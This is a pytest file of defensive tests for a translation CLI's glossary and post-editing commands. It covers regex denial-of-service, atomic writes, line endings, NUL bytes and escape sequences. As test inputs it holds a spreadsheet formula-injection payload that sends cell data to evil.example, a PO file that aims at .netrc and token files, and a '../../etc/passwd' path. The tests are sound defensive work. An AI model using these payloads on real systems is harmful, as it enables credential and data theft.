"""Issue 9 (reliability and security): each defect reproduced on the real dossier and glossary.

Every test here failed before its fix. docs/security.md lists which test proves which promise.
"""

from __future__ import annotations

import errno
import os
import re
import shutil
import signal
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import polib
import pytest
from click.testing import CliRunner
from hypothesis import given, settings
from hypothesis import strategies as st

from kp_translate import fileio
from kp_translate import glossary as glossary_lib
from kp_translate.cli import cli, main
from kp_translate.errors import InputError
from kp_translate.glossary import Entry, Glossary
from kp_translate.match import Matcher
from kp_translate.segment import read_document

from conftest import CORPUS_FR, CORPUS_REF, DOSSIER_FILES, GLOSSARY_DIR, ROOT


def _run(argv: list[str], capsys: pytest.CaptureFixture[str]) -> tuple[int, str, str]:
    with pytest.raises(SystemExit) as exc:
        main(argv)
        raise SystemExit(0)
    code = exc.value.code
    out = capsys.readouterr()
    return (code if isinstance(code, int) else 0), out.out, out.err


def _one_error(err: str) -> str:
    assert err.count("\n") == 1 and err.startswith("kp-translate: error: "), err
    assert "Traceback" not in err
    return err


def _snapshot(directory: Path) -> dict[str, bytes]:
    """The files of *directory* (temporary dotfiles aside: see :func:`_leftovers`)."""
    return {p.name: p.read_bytes() for p in sorted(directory.iterdir()) if p.is_file() and p.name[0] != "."}


# ---------------------------------------------------------------------------------------------
# 1, 2: glossary patterns


@pytest.mark.parametrize(
    ("pattern", "message"),
    [
        ("a*", "matches the empty string"),
        ("(?:Kim)?", "matches the empty string"),
        (r"(a)\1", "backreferences are not allowed"),
        ("(?x)abc #", "global inline flags"),
        (r"(?|(a)|(b))\1", "branch reset"),
        ("(a|a)+$", "exponential backtracking"),
        ("(a+)+b", "exponential backtracking"),
        (r"(?:\w+\s?)*!", "exponential backtracking"),
    ],
)
def test_check_rejects_patterns_that_hang_or_break_the_matcher(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], pattern: str, message: str
) -> None:
    path = tmp_path / "g.kpg"
    path.write_text(f"[x]\ntype: term\ntarget: X\npattern: {pattern}\n", encoding="utf-8")
    code, _, out = _run(["glossary", "check", str(path)], capsys)
    assert code == 2
    assert out.splitlines()[0].startswith(f"{path}:4: bad pattern {pattern!r}: ") and message in out, out
    assert len(out.splitlines()) == 2  # the problem and the count: no "has no source" on top
    # every load refuses it too, with file:line, in one line
    start = time.monotonic()
    code, _, err = _run(["glossary", "export", "-g", str(path), "--format", "json"], capsys)
    assert code == 2 and _one_error(err).startswith(f"kp-translate: error: {path}:4: bad pattern")
    assert time.monotonic() - start < 10


@pytest.mark.parametrize("pattern", [r"Hwasong-\d+", r"(?:KN|Hwasong)-\d{1,3}", r"(?>a|ab)+c", r"\p{Lu}{2,}-\d+"])
def test_check_accepts_ordinary_patterns(tmp_path: Path, pattern: str) -> None:
    path = tmp_path / "g.kpg"
    path.write_text(f"[x]\ntype: weapon\ntarget: X\npattern: {pattern}\n", encoding="utf-8")
    assert glossary_lib.check([path]) == []


def test_empty_match_never_loops_in_the_matcher() -> None:
    # an entry built in memory bypasses the check: the matcher itself must not loop
    entry = Entry(id="x", type="term", target="X", patterns=["a*", "(?:chat)?"])
    start = time.monotonic()
    found = Matcher(Glossary([entry])).find("Le chat a faim. " * 50)
    assert time.monotonic() - start < 5
    assert [m.form for m in found] == ["chat", "a"] * 50
    assert all(m.end > m.start for m in found)


def test_translate_with_an_empty_matching_pattern_fails_fast(tmp_path: Path) -> None:
    path = tmp_path / "g.kpg"
    path.write_text("[x]\ntype: term\ntarget: X\npattern: a*\n", encoding="utf-8")
    kp = [sys.executable, "-c", "from kp_translate.cli import main; main()"]
    env = {**os.environ, "PYTHONPATH": str(ROOT / "src")}
    done = subprocess.run(
        [*kp, "translate", "-", "--engine", "apertium", "-g", str(path), "--no-cache"],
        input=b"Le chat.\n",
        capture_output=True,
        timeout=60,
        env=env,
        check=False,
    )
    assert done.returncode == 2, done.stderr
    assert done.stderr.decode().startswith(f"kp-translate: error: {path}:4: bad pattern 'a*'")


def test_slow_pattern_times_out_naming_the_entry(monkeypatch: pytest.MonkeyPatch) -> None:
    from kp_translate import match

    monkeypatch.setattr(match, "PATTERN_TIMEOUT", 0.5)
    entry = Entry(id="slow", type="term", target="X", patterns=["(a|a)+$"], path="g.kpg", line=1)
    entry.fields = [("pattern", "(a|a)+$", 4)]
    start = time.monotonic()
    with pytest.raises(InputError) as exc:
        Matcher(Glossary([entry])).find("a" * 28 + "!")
    assert time.monotonic() - start < 5
    assert str(exc.value).startswith("g.kpg:4: pattern '(a|a)+$' of entry 'slow' took over 0.5 s")


# ---------------------------------------------------------------------------------------------
# 4: multi-file writes are all or nothing


@pytest.fixture
def glossary_copy(tmp_path: Path) -> Path:
    copy = tmp_path / "glossary"
    shutil.copytree(GLOSSARY_DIR, copy)
    return copy


def _po_touching_every_file(glossary_dir: Path, out: Path) -> list[str]:
    """A glossary PO that adds a translator comment to one entry of every .kpg file."""
    result = CliRunner().invoke(cli, ["glossary", "export", "-g", str(glossary_dir), "--format", "po", "-o", str(out)])
    assert result.exit_code == 0, result.output
    catalog = polib.pofile(str(out))
    g = glossary_lib.load(glossary_dir)
    first: dict[str, str] = {}
    for entry in g:
        first.setdefault(entry.path, entry.id)
    for item in catalog:
        if item.msgctxt in first.values():
            item.tcomment = (item.tcomment + "\n" if item.tcomment else "") + "checked by the reviewer"
    catalog.save(str(out))
    return sorted(Path(p).name for p in first)


def _leftovers(directory: Path) -> list[str]:
    return sorted(p.name for p in directory.iterdir() if p.name.startswith("."))


@settings(max_examples=400, deadline=None)
@given(
    name=st.text(alphabet="ab.-_ é0", min_size=0, max_size=6),
    tag=st.text(alphabet="aZ9_.-é", min_size=0, max_size=4),
    suffix=st.sampled_from(["tmp", "bak", "txt", "", "tmp.tmp"]),
    lead=st.sampled_from([".", "", ".."]),
)
def test_leftovers_are_told_apart_as_the_pattern_of_their_name_does(
    name: str, tag: str, suffix: str, lead: str
) -> None:
    """``recover`` recognises ``.NAME.TAG.tmp``/``.bak`` by splitting the file name; it must say
    exactly what ``^\\.NAME\\.[A-Za-z0-9_]+\\.(?:tmp|bak)$`` (the pattern it replaced) says."""
    filename = f"{lead}{name}.{tag}.{suffix}"
    for candidate in {name, name + "." + tag, name.split(".")[0]} - {""}:  # a file name is never empty
        pattern = re.compile(rf"^\.{re.escape(candidate)}\.[A-Za-z0-9_]+\.(?:tmp|bak)$")
        assert (fileio._temp_of(filename) == candidate) == bool(pattern.match(filename)), (filename, candidate)


def test_temporary_files_of_atomic_writes_are_recognised(tmp_path: Path) -> None:
    for name in ("a.kpg", "résumé.txt", ".hidden", "x.y.z"):
        fd, tmp = fileio._temp_beside(tmp_path / name)
        os.close(fd)
        assert fileio._temp_of(Path(tmp).name) == name


def test_a_temporary_file_never_takes_an_existing_name(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """The temporary file beside a target is made by this call alone, private (0600), and never
    over a file or a symbolic link that has its name: a taken name is passed over for the next."""
    drawn = iter([b"\x00" * 6, b"\x00" * 6, b"\x01" * 6])
    monkeypatch.setattr(fileio.os, "urandom", lambda n: next(drawn))
    secret = tmp_path / "secret"
    secret.write_text("keep")
    (tmp_path / ".out.txt.000000000000.tmp").symlink_to(secret)
    fd, name = fileio._temp_beside(tmp_path / "out.txt")
    os.close(fd)
    assert name == str(tmp_path / ".out.txt.010101010101.tmp")
    assert os.stat(name).st_mode & 0o777 == 0o600
    assert secret.read_text() == "keep"
    monkeypatch.setattr(fileio.os, "urandom", lambda n: b"\x00" * n)  # every name taken
    with pytest.raises(InputError, match=r"out\.txt: cannot write"):
        fileio._temp_beside(tmp_path / "out.txt")


def test_import_touches_all_kpg_files(glossary_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    files = _po_touching_every_file(glossary_copy, tmp_path / "g.po")
    assert len(files) == 8
    before = _snapshot(glossary_copy)
    code, out, _ = _run(["glossary", "import", str(tmp_path / "g.po"), "-g", str(glossary_copy)], capsys)
    assert code == 0, out
    after = _snapshot(glossary_copy)
    assert sorted(n for n in after if after[n] != before[n]) == files
    assert _leftovers(glossary_copy) == []


def test_import_rename_failure_changes_no_file(
    glossary_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    _po_touching_every_file(glossary_copy, tmp_path / "g.po")
    before = _snapshot(glossary_copy)
    real_replace = os.replace
    calls = []

    def failing_replace(src: str, dst: str) -> None:
        calls.append(dst)
        if len(calls) == 3:
            raise OSError(errno.EIO, "Input/output error")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", failing_replace)
    code, _, err = _run(["glossary", "import", str(tmp_path / "g.po"), "-g", str(glossary_copy)], capsys)
    assert code == 2
    assert _one_error(err).startswith(f"kp-translate: error: {calls[2]}: cannot write: Input/output error")
    assert _snapshot(glossary_copy) == before  # the two renamed files were put back
    assert _leftovers(glossary_copy) == []


@pytest.mark.parametrize(("code", "text"), [(errno.ENOSPC, "No space left on device"), (errno.EFBIG, "File too large")])
def test_import_disk_full_changes_no_file(
    glossary_copy: Path,
    tmp_path: Path,
    capsys: pytest.CaptureFixture[str],
    monkeypatch: pytest.MonkeyPatch,
    code: int,
    text: str,
) -> None:
    _po_touching_every_file(glossary_copy, tmp_path / "g.po")
    before = _snapshot(glossary_copy)
    real_fsync = os.fsync
    calls = [0]

    def full_disk(fd: int) -> None:
        calls[0] += 1
        if calls[0] == 3:
            raise OSError(code, os.strerror(code))
        real_fsync(fd)

    monkeypatch.setattr(os, "fsync", full_disk)
    status, _, err = _run(["glossary", "import", str(tmp_path / "g.po"), "-g", str(glossary_copy)], capsys)
    assert status == 2
    line = _one_error(err)
    assert line.endswith(f".kpg: cannot write: {text}\n") and str(glossary_copy) in line
    assert _snapshot(glossary_copy) == before
    assert _leftovers(glossary_copy) == []


_KILLER = """
import os, signal, sys
sys.path.insert(0, {src!r})
calls = []
name = {name!r}
glossary = {glossary!r}
real = getattr(os, name)
def hook(*args, **kwargs):
    # only the calls about the glossary's files count (not those of the caches kept beside)
    target = args[1] if name == "replace" else os.readlink(f"/proc/self/fd/{{args[0]}}")
    if os.fspath(target).startswith(glossary + os.sep):
        calls.append(1)
    if len(calls) == {at}:
        os.kill(os.getpid(), signal.SIGKILL)
    return real(*args, **kwargs)
setattr(os, name, hook)
from kp_translate.cli import main
main(["glossary", "import", {po!r}, "-g", {glossary!r}])
"""


def _kill_import_at(name: str, at: int, po: Path, glossary_dir: Path) -> None:
    script = _KILLER.format(src=str(ROOT / "src"), name=name, at=at, po=str(po), glossary=str(glossary_dir))
    done = subprocess.run(
        [sys.executable, "-c", textwrap.dedent(script)], capture_output=True, timeout=120, check=False
    )
    assert done.returncode == -signal.SIGKILL, done.stderr


def test_kill_during_renames_is_completed_by_the_next_run(
    glossary_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    files = _po_touching_every_file(glossary_copy, tmp_path / "g.po")
    before = _snapshot(glossary_copy)
    # killed at the 3rd rename: 2 files replaced, 6 staged, the journal written
    _kill_import_at("replace", 3, tmp_path / "g.po", glossary_copy)
    half = _snapshot(glossary_copy)
    assert sum(half[n] != before[n] for n in files) == 2
    assert any(n.startswith(fileio.JOURNAL_PREFIX) for n in _leftovers(glossary_copy))
    # the next run completes the renames before it reads the glossary
    code, out, _ = _run(["glossary", "check", str(glossary_copy)], capsys)
    assert code == 0, out
    done = _snapshot(glossary_copy)
    assert sorted(n for n in done if done[n] != before[n]) == files
    assert _leftovers(glossary_copy) == []
    code, out, _ = _run(["glossary", "import", str(tmp_path / "g.po"), "-g", str(glossary_copy)], capsys)
    assert code == 0 and "changed: 0," in out


def test_kill_while_staging_changes_nothing_and_temp_files_are_cleaned(
    glossary_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    _po_touching_every_file(glossary_copy, tmp_path / "g.po")
    before = _snapshot(glossary_copy)
    _kill_import_at("fsync", 3, tmp_path / "g.po", glossary_copy)  # 2 files staged, the 3rd being written
    assert _snapshot(glossary_copy) == before
    assert len([n for n in _leftovers(glossary_copy) if n.endswith(".tmp")]) == 3
    code, out, _ = _run(["glossary", "import", str(tmp_path / "g.po"), "-g", str(glossary_copy)], capsys)
    assert code == 0, out
    assert _leftovers(glossary_copy) == []


def test_postedit_import_rename_failure_writes_no_document(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    po = tmp_path / "d.po"
    result = CliRunner().invoke(cli, ["postedit", "export", str(CORPUS_FR), "-t", str(CORPUS_FR), "-o", str(po)])
    assert result.exit_code == 0, result.output
    out = tmp_path / "pe"
    real_replace = os.replace
    calls = []

    def failing_replace(src: str, dst: str) -> None:
        calls.append(dst)
        if len(calls) == 3:
            raise OSError(errno.ENOSPC, "No space left on device")
        real_replace(src, dst)

    monkeypatch.setattr(os, "replace", failing_replace)
    code, _, err = _run(["postedit", "import", str(po), "-o", str(out), "--src", str(CORPUS_FR)], capsys)
    assert code == 2 and "cannot write: No space left on device" in _one_error(err)
    assert not out.exists() or (_snapshot(out) == {} and _leftovers(out) == [])


# ---------------------------------------------------------------------------------------------
# 7: CRLF and CR line ends


@pytest.fixture
def crlf_dossier(tmp_path: Path) -> Path:
    out = tmp_path / "crlf"
    out.mkdir()
    for path in DOSSIER_FILES:
        (out / path.name).write_bytes(path.read_bytes().replace(b"\n", b"\r\n"))
    return out


@pytest.mark.parametrize("newline", [b"\r\n", b"\r"])
def test_crlf_documents_have_the_lf_paragraphs(tmp_path: Path, newline: bytes) -> None:
    for path in DOSSIER_FILES:
        copy = tmp_path / path.name
        copy.write_bytes(path.read_bytes().replace(b"\n", newline))
        lf, other = read_document(path), read_document(copy)
        assert [(p.id, p.hash, p.text) for p in other.paragraphs] == [(p.id, p.hash, p.text) for p in lf.paragraphs]
        assert other.join([p.text for p in other.paragraphs]).encode() == copy.read_bytes()
    assert len(read_document(tmp_path / DOSSIER_FILES[0].name).paragraphs) == 17


def test_crlf_dossier_postedit_round_trip_keeps_crlf(crlf_dossier: Path, tmp_path: Path) -> None:
    po = tmp_path / "d.po"
    result = CliRunner().invoke(cli, ["postedit", "export", str(crlf_dossier), "-t", str(crlf_dossier), "-o", str(po)])
    assert result.exit_code == 0, result.output
    assert len(polib.pofile(str(po))) == 122
    out = tmp_path / "pe"
    result = CliRunner().invoke(cli, ["postedit", "import", str(po), "-o", str(out), "--src", str(crlf_dossier)])
    assert result.exit_code == 0, result.output
    for path in DOSSIER_FILES:
        assert (out / path.name).read_bytes() == (crlf_dossier / path.name).read_bytes()


def test_crlf_dossier_references_are_not_stale(crlf_dossier: Path) -> None:
    from kp_translate.score import load_dossier

    corpus = load_dossier(crlf_dossier, crlf_dossier, CORPUS_REF)
    lf = load_dossier(CORPUS_FR, CORPUS_FR, CORPUS_REF)
    assert corpus.stale == lf.stale == []
    assert sum(1 for s in corpus.segments if s.refs) == sum(1 for s in lf.segments if s.refs) == 102


def test_crlf_translation_keeps_crlf(tmp_path: Path) -> None:
    source = tmp_path / "fr" / DOSSIER_FILES[0].name
    source.parent.mkdir()
    source.write_bytes(DOSSIER_FILES[0].read_bytes().replace(b"\n", b"\r\n"))
    out = tmp_path / "en"
    result = CliRunner().invoke(cli, ["translate", str(source), "-o", str(out), "--engine", "apertium", "--no-cache"])
    assert result.exit_code == 0, result.output
    data = (out / source.name).read_bytes()
    assert b"\r\n" in data and data.count(b"\n") == data.count(b"\r\n")
    assert len(read_document(out / source.name).paragraphs) == 17


def test_crlf_glossary_and_line_files(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    lf = glossary_lib.load(GLOSSARY_DIR)
    crlf = tmp_path / "g"
    crlf.mkdir()
    for path in GLOSSARY_DIR.glob("*.kpg"):
        (crlf / path.name).write_bytes(path.read_bytes().replace(b"\n", b"\r"))
    assert [e.to_dict() for e in glossary_lib.load(crlf)] == [e.to_dict() for e in lf]
    table = tmp_path / "t.csv"
    table.write_bytes(b"Iouri Ouchakov;Yuri Ushakov\rRPDC;DPRK\r")
    assert [(e.sources, e.target) for e in glossary_lib.load(table)] == [
        (["Iouri Ouchakov"], "Yuri Ushakov"),
        (["RPDC"], "DPRK"),
    ]
    for name in ("hyp.txt", "ref.txt"):
        (tmp_path / name).write_bytes((ROOT / "examples" / name).read_bytes().replace(b"\n", b"\r\n"))
    _, lf_out, _ = _run(
        ["score", "--hyp", str(ROOT / "examples/hyp.txt"), "--ref", str(ROOT / "examples/ref.txt")], capsys
    )
    code, out, _ = _run(["score", "--hyp", str(tmp_path / "hyp.txt"), "--ref", str(tmp_path / "ref.txt")], capsys)
    assert code == 0 and "28.54" in out and out.splitlines()[1] == lf_out.splitlines()[1]


# ---------------------------------------------------------------------------------------------
# 8: postedit import never follows X-Source-Dir


def test_postedit_import_ignores_a_malicious_source_dir(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    secret = tmp_path / "home"
    secret.mkdir()
    (secret / ".netrc").write_text("machine example.org password hunter2\n\nsecond\n", encoding="utf-8")
    (secret / "token.txt").write_text("ghp_secrettoken\n", encoding="utf-8")
    po = tmp_path / "evil.po"
    po.write_text(
        'msgid ""\nmsgstr ""\n"Content-Type: text/plain; charset=UTF-8\\n"\n"Language: en\\n"\n'
        f'"X-Source-Dir: {secret}\\n"\n\n'
        'msgctxt ".netrc#0"\nmsgid "machine example.org password hunter2"\nmsgstr "x"\n\n'
        'msgctxt "token.txt#0"\nmsgid "ghp_secrettoken"\nmsgstr "y"\n',
        encoding="utf-8",
    )
    work = tmp_path / "work"
    work.mkdir()
    monkeypatch.chdir(work)  # no corpus/fr here: --src is needed, the header is not followed
    out = tmp_path / "out"
    code, _, err = _run(["postedit", "import", str(po), "-o", str(out)], capsys)
    assert code == 2 and "pass --src DIR" in _one_error(err)
    assert not out.exists()
    # named explicitly, the directory is read only for its .txt documents: never a dotfile
    code, _, err = _run(["postedit", "import", str(po), "-o", str(out), "--src", str(secret)], capsys)
    assert code == 2 and f"{po}:7: no document .netrc in {secret}" in _one_error(err)
    assert not out.exists()


def test_postedit_import_names_only_real_documents(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    po = tmp_path / "d.po"
    result = CliRunner().invoke(cli, ["postedit", "export", str(CORPUS_FR), "-t", str(CORPUS_FR), "-o", str(po)])
    assert result.exit_code == 0
    text = po.read_text(encoding="utf-8").replace(f'"{DOSSIER_FILES[0].name}#0"', '"../../etc/passwd#0"', 1)
    po.write_text(text, encoding="utf-8")
    code, _, err = _run(["postedit", "import", str(po), "-o", str(tmp_path / "o"), "--src", str(CORPUS_FR)], capsys)
    assert code == 2 and "is not a paragraph id" in _one_error(err)
    assert not (tmp_path / "o").exists()


# ---------------------------------------------------------------------------------------------
# 9: NUL bytes anywhere


@pytest.mark.parametrize("command", ["glossary", "postedit"])
def test_nul_byte_after_8kb_of_a_po(tmp_path: Path, capsys: pytest.CaptureFixture[str], command: str) -> None:
    po = tmp_path / "x.po"
    if command == "glossary":
        argv = ["glossary", "export", "-g", str(GLOSSARY_DIR), "--format", "po", "-o", str(po)]
    else:
        argv = ["postedit", "export", str(CORPUS_FR), "-t", str(CORPUS_FR), "-o", str(po)]
    assert CliRunner().invoke(cli, argv).exit_code == 0
    data = po.read_bytes()
    at = data.index(b'msgctxt "', 9000) + len(b'msgctxt "')
    po.write_bytes(data[:at] + b"ab\x00c" + data[at:])
    line = data[:at].count(b"\n") + 1
    argv = ["glossary", "import", str(po), "-g", str(GLOSSARY_DIR), "--dry-run"]
    if command == "postedit":
        argv = ["postedit", "import", str(po), "-o", str(tmp_path / "o"), "--src", str(CORPUS_FR)]
    code, _, err = _run(argv, capsys)
    assert code == 2
    assert _one_error(err).startswith(f"kp-translate: error: {po}:{line}: binary file: NUL byte")


def test_nul_byte_in_documents_and_glossaries(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    doc = tmp_path / "a.txt"
    doc.write_bytes(b"Le chat.\n\nLa RPDC\x00.\n")
    code, _, err = _run(["translate", str(doc), "-o", str(tmp_path / "en"), "--engine", "apertium"], capsys)
    assert code == 2 and _one_error(err).startswith(f"kp-translate: error: {doc}:3: binary file")
    kpg = tmp_path / "g.kpg"
    kpg.write_bytes(b"[x]\ntype: term\ntarget: X\x00\nsource: x\n")
    assert [str(p) for p in glossary_lib.check([kpg])] == [f"{kpg}:3: binary file: NUL byte at offset 24, not text"]


# ---------------------------------------------------------------------------------------------
# 11: formula injection


@pytest.mark.parametrize(
    "target",
    ['=HYPERLINK("http://evil.example/?"&A1,"Yuri Ushakov")', "=1+1", "+A1", "-SUM(A1:A9)", "@SUM(A1)", "+1+2", "--x"],
)
def test_formula_targets_are_refused(tmp_path: Path, target: str) -> None:
    kpg = tmp_path / "g.kpg"
    kpg.write_text(f"[x]\ntype: term\ntarget: {target}\nsource: x\n", encoding="utf-8")
    (problem,) = glossary_lib.check([kpg])
    assert str(problem).startswith(f"{kpg}:3: target {target!r} would run as a spreadsheet formula")


@pytest.mark.parametrize("target", ["-35S", "-ism", "+7 495 123 45 67", "- a note", "@home", "Su-35S", "-2,5 %"])
def test_plain_targets_with_a_sign_are_accepted_and_escaped(tmp_path: Path, target: str) -> None:
    from kp_translate.formats import tsv

    kpg = tmp_path / "g.kpg"
    kpg.write_text(f"[x]\ntype: term\ntarget: {target}\nsource: x\n", encoding="utf-8")
    g = glossary_lib.load(kpg)
    for fmt in ("tsv", "csv"):
        text = tsv.export(g, fmt=fmt)
        cell = text.rstrip("\n").split("\t" if fmt == "tsv" else ",", 1)[1]
        if target[0] in "=+-@":
            assert cell == '"' + "'" + target + '"'  # OWASP: a leading quote, and the field quoted
        path = tmp_path / f"t.{fmt}"
        path.write_text(text, encoding="utf-8")
        assert [e.target for e in glossary_lib.load(path)] == [target]  # and it reads back as it was


def test_glossary_import_refuses_a_formula_msgstr(
    glossary_copy: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    po = tmp_path / "g.po"
    argv = ["glossary", "export", "-g", str(glossary_copy), "--format", "po", "-o", str(po)]
    assert CliRunner().invoke(cli, argv).exit_code == 0
    catalog = polib.pofile(str(po))
    evil = '=HYPERLINK("http://evil.example/?"&A1,"Yuri Ushakov")'
    for item in catalog:
        if item.msgctxt == "yuri-ushakov":
            item.msgstr = evil
    catalog.save(str(po))
    before = _snapshot(glossary_copy)
    code, _, err = _run(["glossary", "import", str(po), "-g", str(glossary_copy)], capsys)
    assert code == 1
    assert "conflict: [yuri-ushakov] msgstr cannot be a target: target" in err and "spreadsheet formula" in err
    assert _snapshot(glossary_copy) == before
    out = tmp_path / "g.csv"
    assert CliRunner().invoke(cli, ["glossary", "export", "-g", str(glossary_copy), "--format", "csv", "-o", str(out)])
    assert "HYPERLINK" not in out.read_text(encoding="utf-8")


# ---------------------------------------------------------------------------------------------
# 12: control characters, empty line files, write errors


def test_control_characters_are_escaped_in_errors(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    kpg = tmp_path / "g.kpg"
    kpg.write_text("[x]\ntype: \x1b[31mterm\x07\ntarget: X\nsource: x\n", encoding="utf-8")
    code, _, err = _run(["glossary", "export", "-g", str(kpg)], capsys)
    assert code == 2
    assert "\x1b" not in err and "\x07" not in err and "\\x1b[31mterm\\x07" in _one_error(err)
    code, _, out = _run(["glossary", "check", str(kpg)], capsys)
    assert code == 2 and "\x1b" not in out and "\\x1b[31m" in out


@pytest.mark.parametrize("which", ["hyp", "ref"])
def test_empty_line_files_are_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str], which: str) -> None:
    empty = tmp_path / "empty.txt"
    empty.write_bytes(b"")
    files = {"hyp": str(ROOT / "examples/hyp.txt"), "ref": str(ROOT / "examples/ref.txt"), which: str(empty)}
    code, _, err = _run(["score", "--hyp", files["hyp"], "--ref", files["ref"]], capsys)
    assert code == 2
    assert _one_error(err) == f"kp-translate: error: {empty}: empty file: expected one segment per line\n"


def test_empty_reference_directory_is_an_error(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    (tmp_path / "ref").mkdir()
    for command in ("score", "check"):
        argv = [command, "--hyp", str(CORPUS_FR), "--ref", str(tmp_path / "ref")]
        if command == "check":
            argv = ["check", str(CORPUS_FR), "--ref", str(tmp_path / "ref")]
        code, _, err = _run(argv, capsys)
        assert code == 2 and f"{tmp_path / 'ref'}: no reference file (*.json)" in _one_error(err)


def test_write_errors_name_the_file(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    def full(fd: int) -> None:
        raise OSError(errno.ENOSPC, os.strerror(errno.ENOSPC))

    monkeypatch.setattr(os, "fsync", full)
    out = tmp_path / "g.json"
    code, _, err = _run(["glossary", "export", "-g", str(GLOSSARY_DIR), "--format", "json", "-o", str(out)], capsys)
    assert code == 2
    assert _one_error(err) == f"kp-translate: error: {out}: cannot write: No space left on device\n"
    assert not out.exists() and _leftovers(tmp_path) == []
